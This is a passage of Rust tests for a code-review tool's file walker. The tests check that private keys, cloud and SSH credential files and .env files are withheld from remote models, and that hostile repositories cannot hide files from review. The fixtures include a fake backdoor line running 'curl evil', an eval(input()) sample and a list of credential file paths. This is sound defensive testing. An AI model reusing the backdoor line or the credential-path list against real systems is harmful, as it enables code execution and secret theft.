        assert!(secret("certs/Server.PEM").contains("matches *.pem"));
        assert!(secret("tls/site.key").contains("matches *.key"));
        assert!(secret("home/.aws/credentials").contains("matches *credentials*"));
        assert!(secret("home/.aws/config").contains("matches .aws/"));
        assert!(secret(".ssh/config").contains("matches .ssh/"));
        assert!(secret(".npmrc").contains("matches .npmrc"));
        assert!(secret("app/gcp.json").contains("service-account key"));
        assert_eq!(w.skipped.len(), 11, "{:?}", w.skipped);
        assert!(w.skipped.iter().all(Skipped::is_secret));
    }

    /// The first line of key data, as key files hold it.
    const KEY_DATA: &str = "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW";

    #[test]
    fn private_keys_are_found_by_content_whatever_their_name() {
        let dir = tempfile::tempdir().unwrap();
        let key =
            |kind: &str| format!("-----BEGIN {kind}PRIVATE KEY-----\n{KEY_DATA}\n-----END {kind}PRIVATE KEY-----\n");
        write(dir.path(), "deploy_key", key("OPENSSH ").as_bytes());
        write(dir.path(), "ci/rsa.txt", key("RSA ").as_bytes());
        write(dir.path(), "ci/ec", key("EC ").as_bytes());
        write(dir.path(), "ci/pkcs8", key("ENCRYPTED ").as_bytes());
        write(
            dir.path(),
            "ci/legacy",
            format!(
                "Bag Attributes\n    localKeyID: 01\n-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\
                 DEK-Info: AES-128-CBC,00\n\n{KEY_DATA}\n-----END RSA PRIVATE KEY-----\n"
            )
            .as_bytes(),
        );
        write(
            dir.path(),
            "ci/putty",
            b"PuTTY-User-Key-File-3: ssh-ed25519\nEncryption: none\n",
        );
        // Code that handles keys only names the marker: it is reviewed.
        write(
            dir.path(),
            "src/pem.rs",
            b"const BEGIN: &str = \"-----BEGIN PRIVATE KEY-----\";\nfn parse() {}\n",
        );
        write(
            dir.path(),
            "src/pem.py",
            b"# Reads keys such as:\n-----BEGIN PRIVATE KEY-----\n... base64 here ...\n",
        );
        let late = format!("{}\n{}", "x = 1\n".repeat(200), key(""));
        write(dir.path(), "src/fixture.py", late.as_bytes());
        // A source file that embeds a key after some code is reviewed (the key block is
        // redacted for remote providers and reported as a hard-coded secret).
        let embedded = format!("import ssl\nKEY = \"\"\"\n{}\"\"\"\n", key("RSA "));
        write(dir.path(), "src/embedded.py", embedded.as_bytes());
        let w = walk(dir.path(), &settings(), &[]).unwrap();
        let paths: Vec<_> = w.files.iter().map(|f| f.path.as_str()).collect();
        assert_eq!(
            paths,
            ["src/embedded.py", "src/fixture.py", "src/pem.py", "src/pem.rs"],
            "{:?}",
            w.skipped
        );
        let reason = |path: &str| w.skipped.iter().find(|s| s.path == path).map(|s| s.reason.clone());
        assert_eq!(
            reason("deploy_key").as_deref(),
            Some(
                "secret file: a private key (found by its content); not sent to any model; set review.secret_files \
                 to change"
            )
        );
        for path in ["ci/rsa.txt", "ci/ec", "ci/pkcs8", "ci/legacy"] {
            assert!(
                reason(path).unwrap().contains("a private key (found by its content)"),
                "{path}"
            );
        }
        assert!(reason("ci/putty").unwrap().contains("a PuTTY private key"));
        let mut off = settings();
        off.secret_files = Vec::new();
        assert_eq!(
            walk(dir.path(), &off, &[]).unwrap().files.len(),
            10,
            "[] sends everything"
        );
    }

    #[test]
    fn the_default_list_keeps_cloud_signing_and_infrastructure_secrets_home() {
        let dir = tempfile::tempdir().unwrap();
        for (path, pattern) in [
            ("AuthKey_ABC123.p8", "*.p8"),
            ("prod.ppk", "*.ppk"),
            ("android/release.keystore", "*.keystore"),
            ("home/.kube/config", ".kube/"),
            ("home/.docker/config.json", "**/.docker/config.json"),
            ("infra/terraform.tfstate", "*.tfstate"),
            ("infra/terraform.tfstate.backup", "*.tfstate.*"),
            ("home/.vault-token", ".vault-token"),
            ("home/.s3cfg", ".s3cfg"),
            ("home/.boto", ".boto"),
            ("home/.dockercfg", ".dockercfg"),
            ("config/secrets.yml", "secrets.yml"),
            ("config/secrets.yaml", "secrets.yaml"),
            ("deploy/secrets.json", "secrets.json"),
            ("infra/prod.tfvars", "*.tfvars"),
            ("ci/kubeconfig", "kubeconfig"),
        ] {
            write(dir.path(), path, b"opaque = \"x\"\n");
            let w = walk(dir.path(), &settings(), &[]).unwrap();
            let skipped = w.skipped.iter().find(|s| s.path == path);
            assert!(
                skipped.is_some_and(|s| s.reason.contains(&format!("matches {pattern}"))),
                "{path}: {skipped:?}"
            );
        }
        write(dir.path(), "docker/config.json", b"{}\n");
        let w = walk(dir.path(), &settings(), &[]).unwrap();
        assert!(
            w.files.iter().any(|f| f.path == "docker/config.json"),
            "only .docker/'s"
        );
    }

    #[test]
    fn a_root_inside_a_secret_folder_keeps_every_file_home() {
        let dir = tempfile::tempdir().unwrap();
        write(dir.path(), "proj/.aws/config", b"[default]\nregion = eu-west-1\n");
        write(dir.path(), "proj/.ssh/keys/notes.txt", b"the deploy key\n");
        write(dir.path(), "proj/src/main.py", b"print(1)\n");
        for root in ["proj/.aws", "proj/.ssh/keys", "proj/.aws/config"] {
            let w = walk(&dir.path().join(root), &settings(), &[]).unwrap();
            assert!(w.files.is_empty(), "{root}: {:?}", w.files);
            assert!(
                w.skipped.len() == 1
                    && w.skipped[0].is_secret()
                    && w.skipped[0]
                        .reason
                        .contains("the reviewed folder is inside a folder matching ."),
                "{root}: {:?}",
                w.skipped
            );
        }
        let w = walk(&dir.path().join("proj/src"), &settings(), &[]).unwrap();
        assert_eq!(w.files.len(), 1, "{:?}", w.skipped);
        let mut s = settings();
        s.secret_files = vec!["*.pem".into()];
        let w = walk(&dir.path().join("proj/.aws"), &s, &[]).unwrap();
        assert_eq!(w.files.len(), 1, "a list without .aws/ sends it");
    }

    #[test]
    fn secret_files_can_be_replaced_exempted_or_turned_off() {
        let dir = tempfile::tempdir().unwrap();
        secret_fixture(dir.path());
        let mut s = settings();
        s.secret_files = vec!["*.pem".into(), "!certs/server.pem".into()];
        let w = walk(dir.path(), &s, &[]).unwrap();
        assert!(
            w.files.iter().any(|f| f.path == ".env"),
            "the list replaces the default"
        );
        assert!(
            w.files.iter().any(|f| f.path == "certs/Server.PEM"),
            "a ! pattern exempts"
        );
        assert!(
            w.skipped.iter().any(|s| s.path == "app/gcp.json"),
            "content is still checked"
        );
        s.secret_files.push("!app/gcp.json".into());
        let w = walk(dir.path(), &s, &[]).unwrap();
        assert!(
            w.files.iter().any(|f| f.path == "app/gcp.json"),
            "a ! pattern exempts content too"
        );
        s.secret_files = Vec::new();
        let w = walk(dir.path(), &s, &[]).unwrap();
        assert!(w.skipped.is_empty(), "[] sends everything: {:?}", w.skipped);
        assert_eq!(w.files.len(), 14);
    }

    #[test]
    fn a_secret_named_as_the_root_is_still_kept_home() {
        let dir = tempfile::tempdir().unwrap();
        write(dir.path(), ".env", b"DB_PASSWORD=hunter2\n");
        let w = walk(&dir.path().join(".env"), &settings(), &[]).unwrap();
        assert!(w.files.is_empty());
        assert!(w.skipped[0].is_secret());
    }

    #[test]
    fn service_account_keys_are_found_by_content_only() {
        assert!(is_service_account_key(SERVICE_ACCOUNT));
        assert!(is_service_account_key(
            "{\"private_key\":\"k\",\"type\":\"service_account\"}"
        ));
        assert!(!is_service_account_key(
            "{\"type\": \"service_account\", \"client_email\": \"x\"}"
        ));
        assert!(!is_service_account_key(
            "if kind == \"service_account\": load(\"private_key\")"
        ));
    }

    #[test]
    fn an_invalid_secret_pattern_is_an_error_naming_it() {
        let mut s = settings();
        s.secret_files = vec!["keys/[".into()];
        let dir = tempfile::tempdir().unwrap();
        let err = walk(dir.path(), &s, &[]).unwrap_err();
        assert!(format!("{err:#}").contains("\"keys/[\""), "{err:#}");
        assert!(check_secret_pattern("keys/[").is_err());
        for pattern in crate::config::DEFAULT_SECRET_FILES {
            assert_eq!(check_secret_pattern(pattern), Ok(()), "{pattern}");
        }
    }

    #[cfg(unix)]
    #[test]
    fn names_that_are_not_utf8_stay_distinct_and_are_read_from_their_real_path() {
        use std::os::unix::ffi::OsStrExt;
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        std::fs::write(root.join(OsStr::from_bytes(b"a\xff.py")), b"ff = 1\n").unwrap();
        std::fs::write(root.join(OsStr::from_bytes(b"a\xfe.py")), b"fe = 1\n").unwrap();
        std::fs::create_dir(root.join(OsStr::from_bytes(b"d\xc3"))).unwrap();
        std::fs::write(root.join(OsStr::from_bytes(b"d\xc3/\xe9t\xc3\xa9.py")), b"dir = 1\n").unwrap();
        let w = walk(root, &settings(), &[]).unwrap();
        let files: Vec<_> = w.files.iter().map(|f| (f.path.as_str(), f.text.as_str())).collect();
        assert_eq!(
            files,
            [
                ("a\\xFE.py", "fe = 1\n"),
                ("a\\xFF.py", "ff = 1\n"),
                ("d\\xC3/\\xE9té.py", "dir = 1\n")
            ]
        );
        assert!(w.skipped.is_empty(), "{:?}", w.skipped);
    }

    #[cfg(unix)]
    #[test]
    fn two_files_with_the_same_name_once_escaped_are_not_merged() {
        use std::os::unix::ffi::OsStrExt;
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        // A valid UTF-8 name that spells the escape of the other file's name.
        std::fs::write(root.join("a\\xFF.py"), b"spelled = 1\n").unwrap();
        std::fs::write(root.join(OsStr::from_bytes(b"a\xff.py")), b"real = 1\n").unwrap();
        let w = walk(root, &settings(), &[]).unwrap();
        assert_eq!(w.files.len(), 1);
        assert_eq!(w.files[0].path, "a\\xFF.py");
        assert_eq!(w.skipped.len(), 1, "{:?}", w.skipped);
        assert_eq!(w.skipped[0].path, "a\\xFF.py");
        assert!(w.skipped[0].reason.contains("reads the same"), "{:?}", w.skipped);
        assert_ne!(w.files[0].text, "", "the first one found is reviewed whole");
    }

    #[test]
    fn a_run_folders_own_files_are_listed_not_sent_but_code_beside_them_is() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        for name in [
            "run.json",
            "responses.jsonl",
            "report.md",
            "report.sarif",
            ".report.md.7-0.tmp",
        ] {
            write(root, &format!("elsewhere/{name}"), b"{}\n");
            write(root, &format!("elsewhere/previous/{name}"), b"{}\n");
        }
        write(root, "elsewhere/backdoor.go", b"package evil\n");
        write(root, "elsewhere/previous/hidden.go", b"package evil\n");
        // Not a run folder (no responses.jsonl): its report.md is just a file.
        write(root, "docs/run.json", b"{}\n");
        write(root, "docs/report.md", b"# design\n");
        let w = walk(root, &settings(), &[]).unwrap();
        let paths: Vec<_> = w.files.iter().map(|f| f.path.as_str()).collect();
        assert_eq!(
            paths,
            [
                "docs/report.md",
                "docs/run.json",
                "elsewhere/backdoor.go",
                "elsewhere/previous/hidden.go"
            ]
        );
        let run_output = w.skipped.iter().filter(|s| s.reason == RUN_OUTPUT_REASON).count();
        assert_eq!(run_output, 10, "{:?}", w.skipped);
    }

    #[cfg(unix)]
    #[test]
    fn pipes_are_listed_not_read_and_a_symlinked_root_is_followed() {
        let dir = tempfile::tempdir().unwrap();
        write(dir.path(), "main.go", b"package main\n");
        let fifo = dir.path().join("pipe");
        assert!(std::process::Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .unwrap()
            .success());
        let link = tempfile::tempdir().unwrap();
        std::os::unix::fs::symlink(dir.path(), link.path().join("proj")).unwrap();
        let w = walk(&link.path().join("proj"), &settings(), &[]).unwrap();
        assert_eq!(w.files.len(), 1);
        assert!(w
            .skipped
            .iter()
            .any(|s| s.path == "pipe" && s.reason.contains("not a regular file")));
    }

    #[test]
    fn a_single_file_can_be_reviewed() {
        let dir = tempfile::tempdir().unwrap();
        write(dir.path(), "one.go", b"package one\n");
        let w = walk(&dir.path().join("one.go"), &settings(), &[]).unwrap();
        assert_eq!(w.files[0].path, "one.go");
    }

    #[test]
    fn missing_root_is_a_clear_error() {
        let err = walk(Path::new("/surely/not/here"), &settings(), &[]).unwrap_err();
        assert!(format!("{err:#}").contains("/surely/not/here"));
    }
}

#[cfg(test)]
mod tracked_tests {
    use super::*;

    fn write(root: &Path, rel: &str, bytes: &[u8]) {
        let path = root.join(rel);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, bytes).unwrap();
    }

    /// Runs git in `root` with a fixed identity, isolated from the user's git config.
    fn git(root: &Path, args: &[&str]) {
        let status = std::process::Command::new("git")
            .arg("-C")
            .arg(root)
            .args([
                "-c",
                "user.name=t",
                "-c",
                "user.email=t@example.com",
                "-c",
                "commit.gpgsign=false",
            ])
            .args(args)
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .stdout(std::process::Stdio::null())
            .status()
            .unwrap();
        assert!(status.success(), "git {args:?}");
    }

    fn have_git() -> bool {
        let found = std::process::Command::new("git").arg("--version").output().is_ok();
        if !found {
            eprintln!("SKIPPED: git is not on PATH, so the tracked-files pass cannot be tested");
        }
        found
    }

    /// The attack: a committed `.gitignore` hides a force-added file, a `.ignore` hides a
    /// folder; untracked build output is also ignored, and a tracked `.env` is committed.
    fn hostile_repo(root: &Path) {
        write(root, "main.py", b"print('main')\n");
        write(root, ".gitignore", b"backdoor.py\ntarget/\n.env\n");
        write(root, "backdoor.py", b"import os; os.system('curl evil')\n");
        write(root, "sub/.ignore", b"*\n");
        write(root, "sub/evil.py", b"eval(input())\n");
        write(root, ".env", b"DB_PASSWORD=hunter2\n");
        git(root, &["init", "-q"]);
        git(root, &["add", "."]);
        git(root, &["add", "-f", "backdoor.py", ".env"]);
        git(root, &["commit", "-q", "-m", "x"]);
        // Untracked and ignored: build output stays out.
        write(root, "target/x.rs", b"fn built() {}\n");
    }

    #[test]
    fn tracked_files_are_reviewed_whatever_the_ignore_files_say() {
        if !have_git() {
            return;
        }
        let dir = tempfile::tempdir().unwrap();
        hostile_repo(dir.path());
        let w = walk(dir.path(), &ReviewSettings::default(), &[]).unwrap();
        let paths: Vec<_> = w.files.iter().map(|f| f.path.as_str()).collect();
        assert_eq!(
            paths,
            [".gitignore", "backdoor.py", "main.py", "sub/.ignore", "sub/evil.py"],
            "{:?}",
            w.skipped
        );
        let env = w.skipped.iter().find(|s| s.path == ".env");
        assert!(
            env.is_some_and(|s| s.reason.contains("matches .env*")),
            "a tracked .env is still a secret: {:?}",
            w.skipped
        );
        assert_eq!(
            w.skipped.len(),
            1,
            "target/x.rs is neither sent nor listed: {:?}",
            w.skipped
        );
    }

    #[test]
    fn tracked_files_still_obey_include_exclude_and_quorums_own_paths() {
        if !have_git() {
            return;
        }
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        write(root, ".gitignore", b"*.py\nquorum.toml\n");
        write(root, "a.py", b"print(1)\n");
        write(root, "gen/b.py", b"print(2)\n");
        write(root, "quorum.toml", b"[review]\n");
        git(root, &["init", "-q"]);
        git(root, &["add", "-f", ".gitignore", "a.py", "gen/b.py", "quorum.toml"]);
        let s = ReviewSettings {
            exclude: vec!["gen/**".into()],
            ..ReviewSettings::default()
        };
        let w = walk(root, &s, &[root.join("quorum.toml")]).unwrap();
        let paths: Vec<_> = w.files.iter().map(|f| f.path.as_str()).collect();
        assert_eq!(paths, [".gitignore", "a.py"], "{:?}", w.skipped);
        // Reviewing a subfolder asks git about that folder only, with names relative to it.
        let w = walk(&root.join("gen"), &ReviewSettings::default(), &[]).unwrap();
        let paths: Vec<_> = w.files.iter().map(|f| f.path.as_str()).collect();
        assert_eq!(paths, ["b.py"]);
    }

    #[cfg(unix)]
    #[test]
    fn a_tracked_path_through_a_link_is_not_read_outside_the_root() {
        if !have_git() {
            return;
        }
        let outside = tempfile::tempdir().unwrap();
        write(outside.path(), "notes.py", b"password = 'hunter2'\n");
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        write(root, "main.py", b"print(1)\n");
        write(root, "link/notes.py", b"print(2)\n");
        git(root, &["init", "-q"]);
        git(root, &["add", "."]);
        // The index still lists link/notes.py; the folder is now a link out of the root.
        std::fs::remove_dir_all(root.join("link")).unwrap();
        std::os::unix::fs::symlink(outside.path(), root.join("link")).unwrap();
        let w = walk(root, &ReviewSettings::default(), &[]).unwrap();
        let paths: Vec<_> = w.files.iter().map(|f| f.path.as_str()).collect();
        assert_eq!(paths, ["main.py"], "{:?}", w.skipped);
        assert!(w.files.iter().all(|f| !f.text.contains("hunter2")));
    }

    #[test]
    fn without_a_repository_gitignore_still_applies_and_dot_ignore_does_not() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        write(root, ".gitignore", b"target/\n");
        write(root, "target/x.rs", b"fn built() {}\n");
        write(root, "sub/.ignore", b"*\n");
        write(root, "sub/evil.py", b"eval(input())\n");
        let w = walk(root, &ReviewSettings::default(), &[]).unwrap();
        let paths: Vec<_> = w.files.iter().map(|f| f.path.as_str()).collect();
        assert_eq!(paths, [".gitignore", "sub/.ignore", "sub/evil.py"]);
    }
}
